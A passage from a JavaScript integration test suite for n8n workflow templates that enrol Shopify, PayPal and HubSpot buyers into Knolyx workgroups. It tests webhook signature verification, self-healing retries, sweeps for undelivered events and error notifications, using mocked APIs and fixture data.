				const read = { ...structuredClone(SHOPIFY.orderRead), id: paid.id, ...barbara };
				read.line_items = read.line_items.slice(0, 1);
				read.customer = {
					...read.customer,
					...barbara,
					first_name: 'Barbara',
					last_name: 'Liskov',
				};
				shopHas(read);
				const body = JSON.stringify(paid);
				const headers = {
					...shopifySigned('x'),
					'x-shopify-hmac-sha256': crypto
						.createHmac('sha256', SHOPIFY_CREDENTIAL.appSecretKey)
						.update(body)
						.digest('base64'),
				};
				return { body, headers, key: `order:${paid.id}`, email: barbara.email, workgroup: 201 };
			},
			more(heal) {
				/** An order of `who` the shop reports updated now, its first line (workgroup 201) `paid`. */
				const updatedNow = (id, who, change = (o) => o) => {
					const read = { ...structuredClone(SHOPIFY.orderRead), id, ...who };
					read.line_items = read.line_items.slice(0, 1);
					read.customer = {
						...read.customer,
						email: who.email,
						first_name: who.first,
						last_name: who.last,
					};
					read.updated_at = new Date().toISOString();
					shopHas(change(read));
					return read;
				};

				test('the sweep: Shopify removed the webhook subscription (as it does after 48 hours of failed deliveries); a paid order, never delivered, is enrolled by the next sweep, and its refund, never delivered either, removes the buyer', async () => {
					const who = {
						email: 'sophie.wilson@example.com',
						contact_email: 'sophie.wilson@example.com',
						first: 'Sophie',
						last: 'Wilson',
					};
					// Put back after the test, so that unpublishing still finds and removes them (the last test).
					const removedHooks = new Map(SHOPIFY_HOOKS);
					SHOPIFY_HOOKS.clear();
					try {
						await sweptOrderAndRefund(who);
					} finally {
						for (const [id, hook] of removedHooks) SHOPIFY_HOOKS.set(id, hook);
					}
				});

				/** A paid order of `who` and then its refund, both never delivered: each swept. */
				const sweptOrderAndRefund = async (who) => {
					const order = updatedNow(5837204870201, who);
					const enrolled = await heal.rowWith(`order:${order.id}`, 'done');
					expect(enrolled.detail).toBe(`enrolled ${who.email} (workgroup 201)`);
					expect(membersOf(await sb.state(), 201).filter((e) => e === who.email)).toEqual([
						who.email,
					]);
					expect(userByEmail(await sb.state(), who.email)).toMatchObject({
						firstName: 'Sophie',
						lastName: 'Wilson',
					});

					// The shop refunds the course line: the order is updated, its refund listed on it.
					const refund = structuredClone(SHOPIFY.refundedOrderRead.refunds[0]);
					refund.id = 1031987331201;
					refund.order_id = order.id;
					refund.refund_line_items = refund.refund_line_items.map((r) => ({
						...r,
						line_item_id: order.line_items[0].id,
						line_item: {
							...r.line_item,
							id: order.line_items[0].id,
							product_id: order.line_items[0].product_id,
						},
					}));
					updatedNow(order.id, who, (o) => ({
						...o,
						financial_status: 'refunded',
						refunds: [refund],
					}));
					const removed = await heal.rowWith(`refund:${refund.id}:${order.id}`, 'done');
					expect(removed.detail).toBe(`removed ${who.email} (workgroup 201)`);
					expect(membersOf(await sb.state(), 201)).not.toContain(who.email);
					expect((await heal.rowOf(`order:${order.id}`)).status).toBe('done');
				};

				test('a quiet sweep (nothing updated at the shop since the last): one list request to the shop a run, none to Knolyx', async () => {
					const reads = await expectQuietSweeps(heal, SHOPIFY_HOST, 'GET');
					expect(reads[0].query).toMatchObject({
						status: 'any',
						updated_at_min: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
					});
				});
			},
		},
	);

	// PayPal (a Live credential: n8n asks PayPal to verify each message): the trigger registers its
	// webhook; PayPal's verify-webhook-signature says SUCCESS only for a message PayPal sent.
	const capture = {
		...structuredClone(PAYPAL.captureRead),
		id: '7TK53561MB803214X',
		supplementary_data: { related_ids: { order_id: '3C679366HH908993F' } },
	};
	const paypalOrder = structuredClone(PAYPAL.order);
	paypalOrder.id = '3C679366HH908993F';
	paypalOrder.payer = {
		...paypalOrder.payer,
		email_address: 'hedy.lamarr@example.com',
		name: { given_name: 'Hedy', surname: 'Lamarr' },
	};
	const paypalEvent = structuredClone(PAYPAL.captureCompleted);
	paypalEvent.id = 'WH-7Y7254563A4550640-11V2185806837105M';
	paypalEvent.resource = { ...paypalEvent.resource, id: capture.id };
	const paypalBody = JSON.stringify(paypalEvent);
	const PAYPAL_SIG = 'standInTransmissionSignatureOfPayPal==';
	const transmission = (id, sig) => ({
		'content-type': 'application/json',
		'paypal-auth-algo': 'SHA256withRSA',
		'paypal-cert-url':
			'https://api-m.paypal.com/v1/notifications/certs/CERT-360caa42-fca2a594-a5cafa77',
		'paypal-transmission-id': id,
		'paypal-transmission-sig': sig,
		'paypal-transmission-time': '2026-11-26T09:40:00Z',
	});
	const paypalPublished = {
		key: 'paypal',
		trigger: 'On PayPal payment captured or refunded',
		body: paypalBody,
		async setUp() {
			paypalHas(`/v2/payments/captures/${capture.id}`, capture);
			paypalHas(`/v2/checkout/orders/${paypalOrder.id}`, paypalOrder);
			// The message PayPal sends (every resend is the same message, as PayPal resends it).
			PAYPAL_HOOK.sent.set('69cd13f0-d67a-11e5-baa3-778b53f4ae55', {
				sig: PAYPAL_SIG,
				event: paypalEvent,
			});
			await useCredential(
				WF.paypal.id,
				'payPalApi',
				{
					clientId: 'AStandInPayPalClientIdForTheTrigger',
					secret: 'EStandInPayPalSecretForTheTrigger',
					env: 'live',
				},
				(n) => n.type === 'n8n-nodes-base.payPalTrigger',
			);
			await useCredential(
				WF.paypal.id,
				'oAuth2Api',
				PAYPAL_OAUTH,
				(n) => n.name.endsWith('from PayPal') || n.name === 'What changed at PayPal',
			);
		},
		forgedWhat:
			'no PayPal headers, or a message PayPal did not send (its verification says FAILURE)',
		forged: () => {
			const { 'paypal-transmission-sig': _, ...unsigned } = transmission('x', 'x');
			return [
				unsigned,
				transmission('0f1e2d3c-d67a-11e5-baa3-778b53f4ae55', PAYPAL_SIG),
				transmission('69cd13f0-d67a-11e5-baa3-778b53f4ae55', 'a-guessed-signature=='),
			];
		},
		headers: () => transmission('69cd13f0-d67a-11e5-baa3-778b53f4ae55', PAYPAL_SIG),
		enrols: {
			email: 'hedy.lamarr@example.com',
			workgroup: 201,
			toolHost: 'api-m.paypal.com',
			triggerChecks: /^\/v1\/(oauth2\/token|notifications\/verify-webhook-signature)$/,
		},
	};
	describePublished(
		'PayPal (deliveries PayPal verifies by its verify-webhook-signature API)',
		paypalPublished,
	);
	describeHealing(
		'PayPal: a failed Knolyx write heals itself (the retry schedule reads the capture and order from PayPal again, every 2 s here)',
		{
			...paypalPublished,
			fresh() {
				const healed = { ...structuredClone(capture), id: '8HL20475TS194733X' };
				healed.supplementary_data = { related_ids: { order_id: '4HL20475TS194733F' } };
				const healedOrder = structuredClone(paypalOrder);
				healedOrder.id = '4HL20475TS194733F';
				healedOrder.payer = {
					...healedOrder.payer,
					email_address: 'frances.spence@example.com',
					name: { given_name: 'Frances', surname: 'Spence' },
				};
				paypalHas(`/v2/payments/captures/${healed.id}`, healed);
				paypalHas(`/v2/checkout/orders/${healedOrder.id}`, healedOrder);
				const event = structuredClone(paypalEvent);
				event.id = 'WH-8HL20475TS194733-11V2185806837105M';
				event.resource = { ...event.resource, id: healed.id };
				const tid = '7a1b2c3d-d67a-11e5-baa3-778b53f4ae55';
				PAYPAL_HOOK.sent.set(tid, { sig: PAYPAL_SIG, event });
				return {
					body: JSON.stringify(event),
					headers: transmission(tid, PAYPAL_SIG),
					key: `capture:${healed.id}`,
					email: 'frances.spence@example.com',
					workgroup: 201,
				};
			},
			more(heal) {
				/**
				 * A capture PayPal made now for `who` and never delivered: PayPal holds the capture, its
				 * order and its event (listed by GET /v1/notifications/webhooks-events; not with `listed:
				 * false`, an event delivered long ago); `refund()` refunds it in full, the refund's event
				 * never delivered either.
				 */
				const undelivered = (tag, who, { listed = true } = {}) => {
					const captureId = `9${tag}`.toUpperCase().padEnd(17, '0').slice(0, 17);
					const orderId = `5${tag}`.toUpperCase().padEnd(17, '0').slice(0, 17);
					const paid = { ...structuredClone(capture), id: captureId, status: 'COMPLETED' };
					paid.supplementary_data = { related_ids: { order_id: orderId } };
					const order = structuredClone(paypalOrder);
					order.id = orderId;
					order.payer = {
						...order.payer,
						email_address: who.email,
						name: { given_name: who.first, surname: who.last },
					};
					paypalHas(`/v2/payments/captures/${captureId}`, paid);
					paypalHas(`/v2/checkout/orders/${orderId}`, order);
					const event = structuredClone(PAYPAL.captureCompleted);
					event.id = `WH-${captureId}-PAID`;
					event.create_time = new Date().toISOString();
					event.resource = { ...event.resource, id: captureId };
					if (listed) paypalHas(`/v1/notifications/webhooks-events/${event.id}`, event);
					return {
						captureId,
						refund() {
							const refundId = `7${tag}`.toUpperCase().padEnd(17, '0').slice(0, 17);
							const refund = structuredClone(PAYPAL.refundRead);
							refund.id = refundId;
							refund.links = [
								{
									href: `https://api.paypal.com/v2/payments/refunds/${refundId}`,
									rel: 'self',
									method: 'GET',
								},
								{
									href: `https://api.paypal.com/v2/payments/captures/${captureId}`,
									rel: 'up',
									method: 'GET',
								},
							];
							paypalHas(`/v2/payments/refunds/${refundId}`, refund);
							paypalHas(`/v2/payments/captures/${captureId}`, { ...paid, status: 'REFUNDED' });
							const refunded = structuredClone(PAYPAL.captureRefunded);
							refunded.id = `WH-${refundId}-REFD`;
							refunded.create_time = new Date().toISOString();
							refunded.resource = refund;
							paypalHas(`/v1/notifications/webhooks-events/${refunded.id}`, refunded);
							return refundId;
						},
					};
				};

				test('the sweep: a capture PayPal lists but never delivers is enrolled by the next sweep; its full refund, never delivered either, removes the buyer', async () => {
					const who = { email: 'kay.mcnulty@example.com', first: 'Kay', last: 'McNulty' };
					const { captureId, refund } = undelivered('SweepNeverSent', who);
					const enrolled = await heal.rowWith(`capture:${captureId}`, 'done');
					expect(enrolled.detail).toBe(`enrolled ${who.email} (workgroup 201)`);
					expect(membersOf(await sb.state(), 201).filter((e) => e === who.email)).toEqual([
						who.email,
					]);

					await expectSweptRemoval(heal, `refund:${refund()}`, who.email);
				});

				test('the sweep: a capture made while Knolyx is down, never delivered, is kept as pending (quietly: no run fails) and enrolled once Knolyx is back', async () => {
					const who = { email: 'betty.holberton@example.com', first: 'Betty', last: 'Holberton' };
					await expectSweptAcrossOutage(
						heal,
						WF.paypal.id,
						who.email,
						() => `capture:${undelivered('SweepAcrossOutage', who).captureId}`,
					);
				});

				test('a quiet sweep (nothing new at PayPal since the last): one list request to PayPal a run, none to Knolyx', async () => {
					const reads = await expectQuietSweeps(heal, 'api-m.paypal.com', 'GET', {
						token: '/v1/oauth2/token',
					});
					expect(reads[0].query).toMatchObject({
						start_time: expect.stringMatching(/^\d{4}-\d\d-\d\dT[\d:]+Z$/),
						end_time: expect.stringMatching(/^\d{4}-\d\d-\d\dT[\d:]+Z$/),
						page_size: '100',
					});
				});

				// Issue 56, point 3: PayPal's schedule tells what it must after "Drop what no step wrote"
				// (not after the claim, as the other light templates do): a write that gives up still
				// stops the run with its message.
				test('a write that gave up: its 96th try fails, the row says gave up, and the run stops naming the write; no more tries', async () => {
					// A capture PayPal holds, whose event the sweep does not list (delivered long ago).
					const who = { email: 'ida.rhodes@example.com', first: 'Ida', last: 'Rhodes' };
					const { captureId } = undelivered('GaveUpAfterDrop', who, { listed: false });
					// A schedule run first: on n8n 2 it makes the table (when this test runs alone).
					await heal.scheduleRuns(1);
					await heal.settled();
					const before = (await executionsOf(rest, WF.paypal.id)).length;
					await heal.knolyxDown();
					let stopped;
					try {
						await pending.paypal.insert([
							{
								key: `capture:${captureId}`,
								status: 'pending',
								attempts: 95,
								detail: 'Knolyx down',
							},
						]);
						const row = await heal.rowWith(`capture:${captureId}`, 'gave up');
						expect(row).toMatchObject({ attempts: 96 });
						expect(row.detail).toMatch(
							/^gave up in execution \d+: .*\(ida\.rhodes@example\.com, workgroup 201\)$/,
						);
						stopped = await waitFor(
							async () => {
								const list = await executionsOf(rest, WF.paypal.id);
								for (const e of list
									.slice(0, list.length - before)
									.filter((r) => r.status === 'error')) {
									const run = await execution(rest, e.id);
									const message = run.run?.resultData?.error?.message ?? '';
									if (message.includes(`capture:${captureId} in 96 tries`)) return message;
								}
								return false;
							},
							{ timeoutMs: 60_000, what: 'the schedule run that stops naming the write' },
						);
					} finally {
						await heal.knolyxBack();
					}
					expect(stopped).toMatch(
						/^Knolyx did not take the write for PayPal capture or refund capture:9GAVEUPAFTERDROP0 in 96 tries, a day: gave up in execution \d+: .*No more tries: fix the cause/,
					);
					await heal.settled();
					await heal.scheduleRuns(2);
					expect(await heal.rowOf(`capture:${captureId}`)).toMatchObject({
						status: 'gave up',
						attempts: 96,
					});
					expect(membersOf(await sb.state(), 201)).not.toContain('ida.rhodes@example.com');
				}, 240_000);
			},
		},
	);

	// HubSpot: the trigger sets the app's target URL and subscription with the developer
	// credential; deliveries carry HubSpot's signature (sha256 of the app secret and the body).
	/**
	 * HubSpot's delivery of the trigger fixture's events with `fields` (eventId, objectId, …):
	 * { body, signed(secret) } with the signature of `secret`.
	 */
	const hubspotDelivery = (fields) => {
		const body = JSON.stringify(
			HUBSPOT.triggerOutput.map(({ dealId: _, ...e }) => ({ ...e, ...fields })),
		);
		return {
			body,
			signed: (secret) => ({
				'content-type': 'application/json',
				'x-hubspot-signature': crypto.createHash('sha256').update(`${secret}${body}`).digest('hex'),
				'x-hubspot-signature-version': 'v1',
			}),
		};
	};
	/**
	 * A deal `dealId` in a won stage whose contact `vid` is `first last <email>`: HubSpot has both
	 * (hubspotHas, when `register()` is called), and HubSpot's delivery of the stage change (event
	 * `eventId`): { body, signed(secret) } with the signature of `secret`.
	 */
	const hubspotWonDeal = (dealId, vid, [first, last, email], eventId) => {
		const deal = structuredClone(HUBSPOT.deal);
		deal.dealId = dealId;
		deal.associations.associatedVids = [vid];
		const contact = structuredClone(HUBSPOT.contact);
		contact.vid = vid;
		contact.properties.firstname.value = first;
		contact.properties.lastname.value = last;
		contact.properties.email.value = email;
		return {
			...hubspotDelivery({ eventId, objectId: dealId }),
			deal,
			register() {
				hubspotHas(`/deals/v1/deal/${dealId}`, deal);
				hubspotHas(`/contacts/v1/contact/vid/${vid}/profile`, contact);
			},
		};
	};
	/** A won deal HubSpot has, and how many runs the Error workflow had before it is delivered. */
	const wonDealToTell = async (...deal) => {
		const won = hubspotWonDeal(...deal);
		won.register();
		return { won, told: await errorRuns() };
	};
	const adaWon = hubspotWonDeal(
		16592031600,
		703,
		['Ada', 'Lovelace', 'ada.lovelace@example.com'],
		1837292999,
	);
	const hubspotBody = adaWon.body;
	const hubspotSigned = adaWon.signed;
	const hubspotPublished = {
		key: 'hubspot',
		trigger: 'On HubSpot deal stage changed',
		body: hubspotBody,
		async setUp() {
			adaWon.register();
			await hubspotReads();
			await useCredential(
				WF.hubspot.id,
				'hubspotDeveloperApi',
				{ ...HUBSPOT_APP, grantType: 'authorizationCode' },
				(n) => n.type === 'n8n-nodes-base.hubspotTrigger',
			);
			await tellAPersonOf(WF.hubspot.id);
		},
		forgedWhat: 'no signature, or one made with another secret',
		forged: () => [{ 'content-type': 'application/json' }, hubspotSigned('not-the-client-secret')],
		headers: () => hubspotSigned(HUBSPOT_APP.clientSecret),
		enrols: { email: 'ada.lovelace@example.com', workgroup: 202, toolHost: 'api.hubapi.com' },
	};
	describePublished("HubSpot (deliveries with the signature of the app's client secret)", {
		...hubspotPublished,
		more() {
			// n8n 2's Data table node makes the table (the note's set-up has no table step there).
			(N8N_MAJOR >= 2 ? test : test.skip)(
				'n8n 2: a delivery while the workflow has no table yet: the workflow makes its table and keeps the write there as pending; the Error workflow is told',
				async () => {
					await pending.hubspot.drop();
					expect(await pending.hubspot.exists()).toBe(false);
					const { won, told } = await wonDealToTell(
						16592031650,
						705,
						['Annie', 'Easley', 'annie.easley@example.com'],
						1837293650,
					);
					const url = productionUrl('hubspot', hubspotPublished.trigger);
					await knolyxDown();
					let failed;
					try {
						failed = await postDelivery(
							'hubspot',
							url,
							won.body,
							won.signed(HUBSPOT_APP.clientSecret),
						);
					} finally {
						await knolyxBack();
					}
					const message = failed.run.resultData.error.message;
					expect(message).toMatch(
						/^Knolyx did not take the write for HubSpot deal 16592031650: .*\(annie\.easley@example\.com, workgroup 202\)\. Kept as pending in the data table \(try 1 of 96\)/,
					);
					expect(await pending.hubspot.exists()).toBe(true);
					expect(await pending.hubspot.rows()).toEqual([
						expect.objectContaining({ key: '16592031650', status: 'pending', attempts: 1 }),
					]);
					expect(await toldAPerson(told, (i) => i.execution.error.message === message)).toEqual({
						workflowId: WF.hubspot.id,
						message,
					});
					// Knolyx back: the resend enrols and closes the row (the schedule runs every 15 minutes here).
					const redone = await postDelivery(
						'hubspot',
						url,
						won.body,
						won.signed(HUBSPOT_APP.clientSecret),
					);
					expect(redone.status).toBe('success');
					expect(await pending.hubspot.rows()).toEqual([
						expect.objectContaining({ key: '16592031650', status: 'done' }),
					]);
				},
				120_000,
			);

			test('a won deal in a pipeline missing from the mapping: the run stops naming it, and the Error workflow is told that; nobody enrolled', async () => {
				const deal = structuredClone(HUBSPOT.dealRenewals);
				deal.dealId = 16592031660;
				deal.properties.pipeline.value = '99998';
				deal.associations.associatedVids = [706];
				hubspotHas(`/deals/v1/deal/${deal.dealId}`, deal);
				hubspotHas('/crm/v3/pipelines/deals/99998', { ...HUBSPOT.pipelineRenewals, id: '99998' });
				const { body, signed } = hubspotDelivery({
					eventId: 1837293660,
					objectId: deal.dealId,
					propertyValue: '18765437',
				});
				const headers = signed(HUBSPOT_APP.clientSecret);
				const told = await errorRuns();
				const before = await sb.businessState();
				const stopped = await postDelivery(
					'hubspot',
					productionUrl('hubspot', hubspotPublished.trigger),
					body,
					headers,
				);
				expect(stopped.status).toBe('error');
				const message = stopped.run.resultData.error.message;
				expect(message).toMatch(
					/^HubSpot pipeline 99998 is not in the node "Pipeline → workgroup \(edit me\)"/,
				);
				expect(await toldAPerson(told, (i) => i.execution.error.message === message)).toEqual({
					workflowId: WF.hubspot.id,
					message,
				});
				expect(await sb.businessState()).toEqual(before);
			});
		},
	});
	describeHealing(
		'HubSpot: a failed Knolyx write heals itself (the retry schedule reads the deal, pipeline and contact from HubSpot again, every 2 s here)',
		{
			...hubspotPublished,
			fresh() {
				const won = hubspotWonDeal(
					16592031777,
					704,
					['Radia', 'Joy', 'radia.joy@example.com'],
					1837293777,
				);
				won.register();
				return {
					body: won.body,
					headers: won.signed(HUBSPOT_APP.clientSecret),
					key: '16592031777',
					email: 'radia.joy@example.com',
					workgroup: 202,
				};
			},
			more(heal) {
				test('the sweep: a deal won at HubSpot whose delivery never arrives (the app subscription deleted there) is enrolled by the next sweep; a quiet sweep then makes one search request to HubSpot a run and none to Knolyx', async () => {
					// Deleted at HubSpot; put back after the test, so that unpublishing still removes them.
					const subscriptions = new Map(HUBSPOT_HOOK.subscriptions);
					HUBSPOT_HOOK.subscriptions.clear();
					try {
						const won = hubspotWonDeal(
							16592031888,
							705,
							['Frances', 'Allen', 'frances.allen@example.com'],
							1837293888,
						);
						won.deal.properties.hs_lastmodifieddate = { value: String(Date.now()) };
						won.register();
						const row = await heal.rowWith('16592031888', 'done');
						expect(row.detail).toBe('enrolled frances.allen@example.com (workgroup 202)');
						expect(
							membersOf(await sb.state(), 202).filter((e) => e === 'frances.allen@example.com'),
						).toEqual(['frances.allen@example.com']);

						const reads = await expectQuietSweeps(heal, 'api.hubapi.com', 'POST');
						expect(JSON.parse(reads[0].body).filterGroups[0].filters).toEqual([
							{
								propertyName: 'hs_lastmodifieddate',
								operator: 'GTE',
								value: expect.stringMatching(/^\d+$/),
							},
							{ propertyName: 'hs_is_closed_won', operator: 'EQ', value: 'true' },
						]);
					} finally {
						for (const [id, s] of subscriptions) HUBSPOT_HOOK.subscriptions.set(id, s);
					}
				});

				// Issue 56, point 4: a lasting failure reaches a person once per cause, not once per sweep.
				test('the sweep cannot read HubSpot (401, sweep after sweep): the Error workflow is told once, naming HubSpot, the cause and what to do; another cause (503) once more; healed, a deal won meanwhile is enrolled; failing again later is told again', async () => {
					const SEARCH = '/crm/v3/objects/deals/search';
					/** What the Error workflow was told of the HubSpot workflow since it had `before` runs. */
					const sweepTells = async (before) => {
						const list = await executionsOf(rest, ERROR_WF.id);
						const told = [];
						for (const e of list.slice(0, list.length - before).filter((r) => DONE.has(r.status))) {
							const [item] = nodeOutput(await execution(rest, e.id), 'On a failed run') ?? [];
							if (item?.workflow.id === WF.hubspot.id) told.push(item.execution.error.message);
						}
						return told;
					};
					/** HubSpot's search answers `status` (none: as HubSpot does) from now on. */
					const searchAnswers = (status) =>
						apis.setAnswer((r) =>
							status && r.host === 'api.hubapi.com' && r.path === SEARCH
								? {
										status,
										body: {
											status: 'error',
											message:
												status === 401
													? 'Authentication credentials not found.'
													: 'Service unavailable',
											category: status === 401 ? 'INVALID_AUTHENTICATION' : 'SERVICE_UNAVAILABLE',
										},
									}
								: answerAsTools(r),
						);
					await heal.settled();
					const before = await errorRuns();
					const won = hubspotWonDeal(
						16592031999,
						720,
						['Jean', 'Bartik', 'jean.bartik@example.com'],
						1837293999,
					);
					try {
						searchAnswers(401);
						await heal.scheduleRuns(4);
						// The sweep's time stays at the last sweep that read HubSpot (n8n 1.x's paginated
						// request hands the template a last page that answered 401 as if it were a list).
						const failing = await heal.rowOf('sweep');
						expect(failing).toMatchObject({ status: 'sweep failing' });
						// A deal won while the sweep cannot read HubSpot, never delivered.
						won.deal.properties.hs_lastmodifieddate = { value: String(Date.now()) };
						won.register();
						await heal.scheduleRuns(2);
						await heal.settled();
						expect(await heal.rowOf('sweep')).toMatchObject({
							status: 'sweep failing',
							detail: failing.detail,
						});
						expect((await heal.rowOf('sweep')).attempts).toBeGreaterThanOrEqual(
							failing.attempts + 2,
						);
						await toldAPerson(before, (i) => i.workflow.id === WF.hubspot.id);
						const first = await sweepTells(before);
						expect(first).toHaveLength(1);
						expect(first[0]).toMatch(/HubSpot/);
						expect(first[0]).toMatch(/401/);
						expect(first[0]).toMatch(/credential/);
						expect(first[0]).toMatch(/once/);
						expect(userByEmail(await sb.state(), 'jean.bartik@example.com')).toBeUndefined();

						searchAnswers(503);
						await heal.scheduleRuns(4);
						await heal.settled();
						await waitFor(async () => (await sweepTells(before)).length >= 2, {
							timeoutMs: 60_000,
							what: 'the Error workflow told of the second cause',
						});
						await heal.scheduleRuns(2);
						const second = await sweepTells(before);
						expect(second).toHaveLength(2);
						expect(second.find((m) => m !== first[0])).toMatch(/503/);
					} finally {
						searchAnswers(undefined);
					}
					// Healed: the next sweep lists what changed since the last sweep that worked.
					const row = await heal.rowWith('16592031999', 'done');
					expect(row.detail).toBe('enrolled jean.bartik@example.com (workgroup 202)');
					await heal.settled();
					await heal.scheduleRuns(2);
					expect(await sweepTells(before)).toHaveLength(2);
					// Failing again after it healed: told again.
					try {
						searchAnswers(401);
						await waitFor(async () => (await sweepTells(before)).length >= 3, {
							timeoutMs: 60_000,
							what: 'the Error workflow told again after the sweep healed',
						});
					} finally {
						searchAnswers(undefined);
					}
					await heal.settled();
				}, 240_000);

				// n8n 2.41's NodeOperationError puts its own generic text in place of a whole message that
				// holds a network error code (ECONNRESET, ETIMEDOUT, ...: n8n-workflow's COMMON_ERRORS).
				test('Knolyx unreachable (connection reset): the Error workflow is told the event, the buyer and the workgroup, for the delivery and for the write that gave up', async () => {
					const { won, told } = await wonDealToTell(
						16592031690,
						709,
						['Mary', 'Jackson', 'mary.jackson@example.com'],
						1837293690,
					);
					const gaveUp = hubspotWonDeal(
						16592031691,
						719,
						['Gladys', 'West', 'gladys.west@example.com'],
						1837293691,
					);
					gaveUp.register();
					// The message is the template's own, whatever the reason says: it names the event, the buyer
					// and the workgroup, and holds no network error code (n8n 2 would put its generic text in
					// place of all of it). On n8n 2 the reason is the node's ("Knolyx could not be reached", the
					// code in words); n8n 1.123 hands the template n8n's own text for the code as the reason.
					const ours = (event, email) =>
						new RegExp(
							`^Knolyx did not take the write for HubSpot deal ${event}(: | in 96 tries, a day: gave up in execution \\d+: )(Knolyx could not be reached \\(connection reset\\)|The connection to the server was closed unexpectedly.*) \\(${email.replace(/\./g, '\\.')}, workgroup 202\\)\\. `,
						);
					await sb.request('POST', '/sandbox/fault-burst', {
						requests: 10_000,
						faults: { resetRate: 1 },
					});
					try {
						const failed = await heal.deliver(
							productionUrl('hubspot', hubspotPublished.trigger),
							won.body,
							() => won.signed(HUBSPOT_APP.clientSecret),
						);
						expect(failed.status).toBe('error');
						const said = await toldAPerson(told, (i) =>
							/16592031690|closed unexpectedly/.test(i.execution.error.message),
						);
						expect(said.workflowId).toBe(WF.hubspot.id);
						expect(said.message).toMatch(ours(16592031690, 'mary.jackson@example.com'));
						expect(said.message).toMatch(
							/Kept as pending in the data table \(try 1 of 96\); this workflow tries it again every 15 minutes/,
						);
						expect(said.message).not.toMatch(/ECONNRESET/i);
						// A write the schedule has tried 95 times, Knolyx still unreachable: its last try.
						const toldBefore = await errorRuns();
						await pending.hubspot.insert([
							{ key: '16592031691', status: 'pending', attempts: 95, detail: 'Knolyx down' },
						]);
						await heal.rowWith('16592031691', 'gave up');
						const last = await toldAPerson(toldBefore, (i) =>
							/16592031691|closed unexpectedly/.test(i.execution.error.message),
						);
						expect(last.message).toMatch(ours(16592031691, 'gladys.west@example.com'));
						expect(last.message).toMatch(/No more tries: fix the cause/);
						expect(last.message).not.toMatch(/ECONNRESET/i);
					} finally {
						await heal.knolyxBack();
					}
					await heal.settled();
				}, 240_000);

				test('a write that gave up: its 96th try fails, the row says gave up, the run stops and the Error workflow is told which write; no more tries', async () => {
					const { told } = await wonDealToTell(
						16592031670,
						707,
						['Evelyn', 'Boyd', 'evelyn.boyd@example.com'],
						1837293670,
					);
					await heal.knolyxDown();
					try {
						// A write the schedule has tried 95 times: its next try is the last.
						await pending.hubspot.insert([
							{ key: '16592031670', status: 'pending', attempts: 95, detail: 'Knolyx down' },
						]);
						const row = await heal.rowWith('16592031670', 'gave up');
						expect(row).toMatchObject({ attempts: 96 });
						expect(row.detail).toMatch(
							/^gave up in execution \d+: .*\(evelyn\.boyd@example\.com, workgroup 202\)$/,
						);
						const said = await toldAPerson(told, (i) =>
							i.execution.error.message.includes('HubSpot deal 16592031670 in 96 tries'),
						);
						expect(said.workflowId).toBe(WF.hubspot.id);
						expect(said.message).toBe(
							`Knolyx did not take the write for HubSpot deal 16592031670 in 96 tries, a day: ${row.detail}. No more tries: fix the cause, then set the row's status back to pending in the data table ${N8N_MAJOR >= 2 ? `Knolyx pending writes ${WF.hubspot.id}` : 'of this workflow'}.`,
						);
					} finally {
						await heal.knolyxBack();
					}
					// Knolyx back: nobody tries it again until a person sets it back to pending.
					await heal.settled();
					await heal.scheduleRuns(2);
					expect(await heal.rowOf('16592031670')).toMatchObject({
						status: 'gave up',
						attempts: 96,
					});
					expect(membersOf(await sb.state(), 202)).not.toContain('evelyn.boyd@example.com');
				}, 240_000);

				// n8n 1.x on its default SQLite runs every execution's data-table writes on one
				// connection: two at once nest, and one can be told it failed after it was made.
				test('eight deliveries at once while Knolyx is down, the schedule claiming meanwhile: Knolyx back, each deal lands once and its row is done', async () => {
					const deals = Array.from({ length: 8 }, (_, i) =>
						hubspotWonDeal(
							16592031800 + i,
							710 + i,
							[`Ida${i}`, 'Rhodes', `ida${i}.rhodes@example.com`],
							1837293800 + i,
						),
					);
					for (const d of deals) d.register();
					// A plain 503: each write is sent again for 15 to 31 s, so the eight deliveries'
					// runs and the schedule's overlap.
					await heal.knolyxDown({ retryAfter: false });
					try {
						const failed = await heal.deliverAll(
							productionUrl('hubspot', hubspotPublished.trigger),
							deals.map((d) => ({ body: d.body, headers: d.signed(HUBSPOT_APP.clientSecret) })),
						);
						expect(failed.map((ex) => [ex.status, ex.run.resultData.error.message])).toEqual(
							deals.map(() => ['error', expect.stringMatching(/^Knolyx did not take the write/)]),
						);
					} finally {
						await heal.knolyxBack();
					}
					for (const i of deals.keys()) {
						const row = await heal.rowWith(String(16592031800 + i), 'done');
						expect({ i, detail: row.detail }).toEqual({
							i,
							detail: `enrolled ida${i}.rhodes@example.com (workgroup 202)`,
						});
					}
					await heal.settled();
					const knolyxBefore = (await sb.stats()).requests;
					await heal.scheduleRuns(2);
					expect((await sb.stats()).requests - knolyxBefore).toBe(0);
					const members = membersOf(await sb.state(), 202);
					expect(
						deals.map((_, i) => members.filter((e) => e === `ida${i}.rhodes@example.com`)),
					).toEqual(deals.map((_, i) => [`ida${i}.rhodes@example.com`]));
				}, 240_000);
			},
		},
	);

	test('the triggers registered their webhooks at the stand-ins, for their production URLs, and removed them when unpublished', () => {
		expect(
			apis.requests
				.filter((r) => r.method === 'POST' && /webhooks$/.test(r.path))
				.map((r) => [
					r.host,
					JSON.parse(r.body).delivery_url ?? JSON.parse(r.body).subscription_url,
				]),
		).toEqual(
			expect.arrayContaining([
				[WOOCOMMERCE_HOST, productionUrl('woo', 'On WooCommerce order updated')],
				['api.pipedrive.com', productionUrl('pipedrive', 'On Pipedrive deal changed')],
			]),
		);
		const pipedrivePost = apis.requests.find(
			(r) => r.method === 'POST' && r.path === '/v1/webhooks',
		);
		expect(JSON.parse(pipedrivePost.body)).toMatchObject({
			http_auth_user: BASIC.user,
			http_auth_password: BASIC.password,
		});
		expect([WOO_HOOK.created, PIPEDRIVE_HOOK.created]).toEqual([undefined, undefined]);
		// Shopify: a webhook per trigger (orders/paid, refunds/create), both removed.
		const shopifyPosts = apis.requests.filter(
			(r) => r.host === SHOPIFY_HOST && r.method === 'POST' && /webhooks\.json$/.test(r.path),
		);
		// Published twice (the deliveries, then the retry schedule): each time a webhook per topic.
		const topics = shopifyPosts.map((r) => JSON.parse(r.body).webhook.topic).sort();
		expect([...new Set(topics)]).toEqual(['orders/paid', 'refunds/create']);
		expect(topics.filter((t) => t === 'orders/paid')).toHaveLength(topics.length / 2);
		expect(SHOPIFY_HOOKS.size).toBe(0);
		expect(PAYPAL_HOOK.created).toBeUndefined();
		expect([HUBSPOT_HOOK.settings, HUBSPOT_HOOK.subscriptions.size]).toEqual([undefined, 0]);
	});
});

// ----------------------------------------------------------------- 12.
